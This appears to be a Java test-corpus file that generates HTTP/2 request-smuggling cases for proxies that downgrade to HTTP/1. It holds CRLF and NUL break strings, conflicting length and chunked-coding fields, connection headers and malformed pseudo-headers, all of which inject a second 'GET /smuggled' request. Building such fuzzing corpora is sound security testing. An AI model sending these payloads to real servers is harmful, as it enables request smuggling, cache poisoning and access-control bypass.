package dev.adit.smuggling;

import dev.adit.testbed.Http2Frames;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;

/**
 * Requests of HTTP/2 that become two in HTTP/1 where a proxy writes down what it reads: the lengths, the codings, and
 * the line ends in each part of a head (RFC 9113 §10.3).
 */
final class Http2Corpus {
    private static final List<String> PSEUDO = List.of(":method", ":scheme", ":path", ":authority");
    private static final List<String> METHODS = List.of("POST", "GET", "HEAD", "OPTIONS");
    // Each ends what it is put into, and begins a request of its own.
    private static final List<String> BREAKS = List.of(
            "\r\n\r\nGET /smuggled HTTP/1.1\r\nhost: a.test\r\n\r\n",
            " HTTP/1.1\r\nhost: a.test\r\n\r\nGET /smuggled HTTP/1.1\r\nx: ",
            "\r\ntransfer-encoding: chunked\r\nx: y",
            "\r\ncontent-length: 0\r\n\r\nGET /smuggled HTTP/1.1\r\nx: y",
            "\ncontent-length: 0\n\nGET /smuggled HTTP/1.1\nx: y",
            "\rcontent-length: 0\r\rGET /smuggled HTTP/1.1\rx: y",
            "\u0000content-length: 0",
            "\r",
            "\n",
            "\u0000",
            "\u000b",
            "\u0085",
            " ",
            "\t",
            ": chunked",
            "\u010a\u010dcontent-length: 0",
            "\r\n content-length: 0");

    private Http2Corpus() {}

    /**
     * One request.
     *
     * @param head names and values in turn
     * @param body empty for none
     * @param trailers the same as of the head, or nothing
     */
    record Case(String bug, List<String> head, String body, List<String> trailers) {
        /** As stream 1, with another text for {@code a.test} and {@code b.test}. */
        byte[] frames(int number) {
            var hasTrailers = !trailers.isEmpty();
            var hasBody = !body.isEmpty();
            var bytes = new ByteArrayOutputStream();
            var last = hasBody || hasTrailers ? 0 : Http2Frames.END_STREAM;
            bytes.writeBytes(Http2Frames.headers(last, 1, section(head, number)));
            if (hasBody) {
                var data = Corpus.numbered(body, number).getBytes(StandardCharsets.ISO_8859_1);
                var end = hasTrailers ? 0 : Http2Frames.END_STREAM;
                bytes.writeBytes(Http2Frames.frame(Http2Frames.DATA, end, 1, data));
            }
            if (hasTrailers) {
                bytes.writeBytes(Http2Frames.headers(Http2Frames.END_STREAM, 1, section(trailers, number)));
            }
            return bytes.toByteArray();
        }

        private static byte[] section(List<String> fields, int number) {
            return Http2Frames.section(
                    fields.stream().map(text -> Corpus.numbered(text, number)).toArray(String[]::new));
        }
    }

    static List<Case> all() {
        var cases = new ArrayList<Case>();
        for (var method : METHODS) {
            for (var length : Corpus.LENGTHS) {
                add(cases, "length", method, "abc" + Corpus.SMUGGLED, "content-length", length);
                add(cases, "length of nothing", method, "", "content-length", length);
            }
            for (var coding : Corpus.CODINGS) {
                add(cases, "coding", method, Corpus.CHUNKS, "transfer-encoding", coding);
            }
            add(cases, "no length", method, Corpus.SMUGGLED);
            add(cases, "no length", method, Corpus.CHUNKS);
            add(cases, "no length", method, "0\r\n\r\n");
        }
        for (var length : Corpus.LENGTHS) {
            add(cases, "two lengths", "POST", "abc", "content-length", "3", "content-length", length);
            add(cases, "two lengths", "POST", "abc", "content-length", length, "content-length", "0");
        }
        for (var coding : Corpus.CODINGS) {
            add(
                    cases,
                    "coding beside a length",
                    "POST",
                    Corpus.CHUNKS,
                    "content-length",
                    "5",
                    "transfer-encoding",
                    coding);
        }
        for (var text : BREAKS) {
            for (var body : List.of("", Corpus.SMUGGLED)) {
                add(cases, "line in a value", "POST", body, "x", "a" + text + "b");
                add(cases, "line before a value", "POST", body, "x", text);
                add(cases, "line in a name", "POST", body, "x" + text, "a");
                add(cases, "line in a cookie", "POST", body, "cookie", "a=b", "cookie", "c" + text);
                add(cases, "line in a length", "POST", body, "content-length", body.length() + text);
                for (var pseudo : PSEUDO) {
                    pseudo(cases, "line in " + pseudo, pseudo, text, body);
                }
            }
            trailers(cases, "line in a trailer", "x", "a" + text);
            trailers(cases, "line in the name of a trailer", "x" + text, "a");
        }
        for (var field : List.of(
                "connection: close",
                "connection: content-length",
                "connection: upgrade",
                "upgrade: h2c",
                "upgrade: websocket",
                "keep-alive: timeout=5",
                "proxy-connection: keep-alive",
                "http2-settings: AAMAAABk",
                "te: trailers, chunked",
                "te: chunked",
                "host: b.test",
                "Transfer-Encoding: chunked",
                "Content-Length: 3",
                "transfer_encoding: chunked",
                "expect: 100-continue",
                "x-http-method-override: GET",
                "trailer: content-length")) {
            var words = field.split(": ", 2);
            add(cases, "field of a connection", "POST", "abc" + Corpus.SMUGGLED, words[0], words[1]);
            trailers(cases, "field of a connection in trailers", words[0], words[1]);
        }
        for (var trailer : List.of("content-length: 5", "transfer-encoding: chunked", ":path: /smuggled", ": x")) {
            var split = trailer.indexOf(": ", 1);
            trailers(cases, "trailer", trailer.substring(0, Math.max(0, split)), trailer.substring(split + 2));
        }
        for (var extra : PSEUDO) {
            add(cases, "one more " + extra, "POST", "abc", extra, "/smuggled");
        }
        for (var target :
                List.of("http://b.test/", "//b.test", "*", "a", "?a", "", "/#", "/%0d%0a", "/\\", "/\u00e9")) {
            replaced(cases, "target", ":path", target, Corpus.SMUGGLED);
        }
        for (var method : List.of("CONNECT", "PO ST", "post", "", "GET /smuggled HTTP/1.1", "PRI", "TRACE")) {
            replaced(cases, "method", ":method", method, Corpus.SMUGGLED);
        }
        return cases;
    }

    private static void add(List<Case> cases, String bug, String method, String body, String... fields) {
        var head = head(method);
        head.addAll(List.of(fields));
        cases.add(new Case(bug, head, body, List.of()));
    }

    private static void trailers(List<Case> cases, String bug, String... trailers) {
        cases.add(new Case(bug, head("POST"), "abc", Arrays.asList(trailers)));
    }

    private static void pseudo(List<Case> cases, String bug, String name, String more, String body) {
        var head = head("POST");
        replaced(cases, bug, name, head.get(head.indexOf(name) + 1) + more, body);
    }

    private static void replaced(List<Case> cases, String bug, String name, String value, String body) {
        var head = head("POST");
        head.set(head.indexOf(name) + 1, value);
        cases.add(new Case(bug, head, body, List.of()));
    }

    private static ArrayList<String> head(String method) {
        return new ArrayList<>(List.of(":method", method, ":scheme", "http", ":path", "/", ":authority", "a.test"));
    }
}
